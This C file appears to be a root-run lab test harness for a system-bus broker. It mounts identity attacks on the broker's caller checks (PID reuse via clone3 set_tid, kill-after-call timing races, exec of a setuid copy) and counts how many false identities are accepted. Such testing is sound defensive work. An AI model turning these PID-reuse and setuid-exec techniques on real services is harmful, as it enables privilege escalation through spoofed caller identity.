/* SPDX-License-Identifier: LGPL-2.1-or-later */

/* Attacks on who a caller is, as root can force them in the lab. Speaks to the system bus by
 * hand: a connection here is a descriptor, whichever process made it.
 *
 *   attacks reuse COUNT        the process that connected ends, and its number is given to
 *                              another one before the first call
 *   attacks leave COUNT        the caller is killed 0 to 20 ms after its first call
 *   attacks setuid COUNT PATH  the caller executes PATH, a set-user-id copy of this program
 *   attacks hold               is what it executes: waits for the end of its input
 *
 *   attacks control COUNT UID  nothing of the kind
 *
 * Prints "tried N" and "accepted N": each is a wrong identity, but of the control, which has to
 * be accepted. The bus is that at $ATTACKED_BUS, or the system's. */

#include <errno.h>
#include <gio/gio.h>
#include <linux/sched.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "tests/broker/wire.h"

#define BATCH        16 /* fewer than blepick-identity takes of one user at once */
#define LEAVERS      4  /* at once */
#define LEAVE_MAX_US 20000
#define NOBODY       65534

/* ---- processes ---- */

/* A process with a connection that we hold as well. */
typedef struct
{
  pid_t pid;
  int bus;
  int life; /* it ends when this closes */
} Caller;

static void
send_fd (int socket_fd, int fd)
{
  char byte = 0;
  struct iovec bytes = { &byte, 1 };
  union
  {
    struct cmsghdr header;
    char bytes[CMSG_SPACE (sizeof (int))];
  } control = { .header = { .cmsg_level = SOL_SOCKET,
                            .cmsg_type = SCM_RIGHTS,
                            .cmsg_len = CMSG_LEN (sizeof (int)) } };
  struct msghdr message = { .msg_iov = &bytes,
                            .msg_iovlen = 1,
                            .msg_control = &control,
                            .msg_controllen = sizeof control };

  memcpy (CMSG_DATA (&control.header), &fd, sizeof fd);
  if (sendmsg (socket_fd, &message, 0) != 1)
    wire_die ("handing over a connection");
}

static int
receive_fd (int socket_fd)
{
  char byte;
  struct iovec bytes = { &byte, 1 };
  union
  {
    struct cmsghdr header;
    char bytes[CMSG_SPACE (sizeof (int))];
  } control;
  struct msghdr message = { .msg_iov = &bytes,
                            .msg_iovlen = 1,
                            .msg_control = &control,
                            .msg_controllen = sizeof control };
  int fd;

  if (recvmsg (socket_fd, &message, MSG_CMSG_CLOEXEC) != 1 ||
      CMSG_FIRSTHDR (&message) == NULL)
    wire_die ("taking over a connection");
  memcpy (&fd, CMSG_DATA (&control.header), sizeof fd);
  return fd;
}

static G_NORETURN void
wait_for_end (int fd)
{
  char byte;

  (void) read (fd, &byte, 1);
  _exit (0);
}

static void
make_pair (int pair[2])
{
  if (socketpair (AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, pair) != 0)
    wire_die ("socketpair");
}

/* @uid: whose process it is. @command: what it executes once it has connected, or NULL. */
static Caller
start_caller (uid_t uid, const char *const *command)
{
  int pair[2];
  Caller caller;

  make_pair (pair);
  caller.pid = fork ();
  if (caller.pid == 0)
    {
      close (pair[0]);
      if (uid != 0 && setresuid (uid, uid, uid) != 0)
        wire_die ("becoming another user");
      send_fd (pair[1], wire_connect ());
      if (command != NULL && dup2 (pair[1], STDIN_FILENO) == STDIN_FILENO)
        (void) execv (command[0], (char *const *) command);
      wait_for_end (pair[1]);
    }
  close (pair[1]);
  caller.life = pair[0];
  caller.bus = receive_fd (pair[0]);
  wire_greet (caller.bus, uid);
  return caller;
}

static void
end_process (Caller *caller)
{
  (void) kill (caller->pid, SIGKILL);
  (void) waitpid (caller->pid, NULL, 0);
  close (caller->life);
}

static void
end_caller (Caller *caller)
{
  end_process (caller);
  close (caller->bus);
}

/* Starts a process of the number that the caller's had. */
static void
reuse_number (Caller *caller)
{
  pid_t wanted = caller->pid;
  struct clone_args args = { .exit_signal = SIGCHLD,
                             .set_tid = (guint64) (guintptr) &wanted,
                             .set_tid_size = 1 };
  int pair[2];
  long pid;

  make_pair (pair);
  pid = syscall (SYS_clone3, &args, sizeof args);
  if (pid == 0)
    {
      close (pair[0]);
      wait_for_end (pair[1]);
    }
  if (pid != wanted)
    wire_die ("taking the number of another process");
  close (pair[1]);
  caller->life = pair[0];
}

/* A process that starts within the clock tick in which its number's last owner connected
 * cannot be told from it; the numbers would have to come round in 10 ms for that. */
static void
wait_for_next_tick (void)
{
  gint64 tick_ns = 1000000000 / sysconf (_SC_CLK_TCK);
  struct timespec start, now;

  clock_gettime (CLOCK_BOOTTIME, &start);
  do
    clock_gettime (CLOCK_BOOTTIME, &now);
  while (((gint64) now.tv_sec * 1000000000 + now.tv_nsec) / tick_ns ==
         ((gint64) start.tv_sec * 1000000000 + start.tv_nsec) / tick_ns);
}

static void
print_result (guint n_tried, guint n_accepted)
{
  printf ("tried %u\naccepted %u\n", n_tried, n_accepted);
}

/* ---- the attacks ---- */

static guint
attack_with_reuse (int witness, guint n_callers)
{
  Caller callers[BATCH];
  guint n_accepted = 0;

  for (guint i = 0; i < n_callers; i++)
    callers[i] = start_caller (0, NULL);
  wire_wait_for_broker (witness);
  for (guint i = 0; i < n_callers; i++)
    end_process (&callers[i]);
  wait_for_next_tick ();
  for (guint i = 0; i < n_callers; i++)
    reuse_number (&callers[i]);
  for (guint i = 0; i < n_callers; i++)
    wire_write_open_session (callers[i].bus);
  for (guint i = 0; i < n_callers; i++)
    n_accepted += wire_read_opened (callers[i].bus) ? 1 : 0;
  for (guint i = 0; i < n_callers; i++)
    end_caller (&callers[i]);
  return n_accepted;
}

static void
run_reuse (guint n_wanted)
{
  Caller witness = start_caller (0, NULL);
  guint n_accepted = 0;

  for (guint n_tried = 0; n_tried < n_wanted; n_tried += BATCH)
    n_accepted += attack_with_reuse (witness.bus, MIN (BATCH, n_wanted - n_tried));
  end_caller (&witness);
  print_result (n_wanted, n_accepted);
}

/* A process that has called, and when. */
typedef struct
{
  pid_t pid;
  int life;
  gint64 called_us;
} Leaver;

static Leaver
start_leaver (void)
{
  int pair[2];
  Leaver leaver;
  char byte = 0;

  make_pair (pair);
  leaver.pid = fork ();
  if (leaver.pid == 0)
    {
      int bus = wire_connect ();

      close (pair[0]);
      wire_write_greeting (bus, 0);
      wire_write_open_session (bus);
      wire_write (pair[1], &byte, 1);
      wait_for_end (pair[1]);
    }
  close (pair[1]);
  if (read (pair[0], &byte, 1) != 1)
    wire_die ("a caller that calls");
  leaver.called_us = g_get_monotonic_time ();
  leaver.life = pair[0];
  return leaver;
}

/* The delay is the attack: it is killed so long after its call went out. */
static void
kill_after (const Leaver *leaver, gint64 delay_us)
{
  gint64 left_us = leaver->called_us + delay_us - g_get_monotonic_time ();
  struct timespec left = { .tv_nsec = MAX (left_us, 0) * 1000 };

  (void) ppoll (NULL, 0, &left, NULL);
  (void) kill (leaver->pid, SIGKILL);
  (void) waitpid (leaver->pid, NULL, 0);
  close (leaver->life);
}

static void
run_leave (guint n_wanted)
{
  for (guint first = 0; first < n_wanted; first += LEAVERS)
    {
      guint n_leavers = MIN (LEAVERS, n_wanted - first);
      Leaver leavers[LEAVERS];

      for (guint i = 0; i < n_leavers; i++)
        leavers[i] = start_leaver ();
      for (guint i = 0; i < n_leavers; i++)
        kill_after (&leavers[i], (gint64) (first + i) * LEAVE_MAX_US / n_wanted);
    }
  /* Whether anybody was accepted the store says: nobody is left to be told. */
  printf ("tried %u\n", n_wanted);
}

static void
run_setuid (guint n_wanted, const char *path)
{
  const char *const command[] = { path, "hold", NULL };
  guint n_accepted = 0;

  for (guint i = 0; i < n_wanted; i++)
    {
      Caller caller = start_caller (NOBODY, command);
      g_autofree char *status = g_strdup_printf ("/proc/%d/status", caller.pid);
      g_autofree char *text = NULL;

      /* Until it is root's. */
      do
        {
          g_clear_pointer (&text, g_free);
          if (!g_file_get_contents (status, &text, NULL, NULL))
            wire_die ("the set-user-id program");
        }
      while (strstr (text, "\nUid:\t65534\t0\t") == NULL);
      n_accepted += wire_open_session (caller.bus) ? 1 : 0;
      end_caller (&caller);
    }
  print_result (n_wanted, n_accepted);
}

static void
run_control (guint n_wanted, uid_t uid)
{
  const char *const command[] = { "/proc/self/exe", "hold", NULL };
  guint n_accepted = 0;

  for (guint i = 0; i < n_wanted; i++)
    {
      Caller caller = start_caller (uid, command);

      n_accepted += wire_open_session (caller.bus) ? 1 : 0;
      end_caller (&caller);
    }
  print_result (n_wanted, n_accepted);
}

int
main (int argc, char **argv)
{
  guint n_wanted = argc > 2 ? (guint) strtoul (argv[2], NULL, 10) : 0;

  (void) signal (SIGPIPE, SIG_IGN);
  if (argc == 2 && strcmp (argv[1], "hold") == 0)
    wait_for_end (STDIN_FILENO);
  if (argc == 3 && strcmp (argv[1], "reuse") == 0)
    run_reuse (n_wanted);
  else if (argc == 3 && strcmp (argv[1], "leave") == 0)
    run_leave (n_wanted);
  else if (argc == 4 && strcmp (argv[1], "setuid") == 0)
    run_setuid (n_wanted, argv[3]);
  else if (argc == 4 && strcmp (argv[1], "control") == 0)
    run_control (n_wanted, (uid_t) strtoul (argv[3], NULL, 10));
  else
    return 2;
  return 0;
}
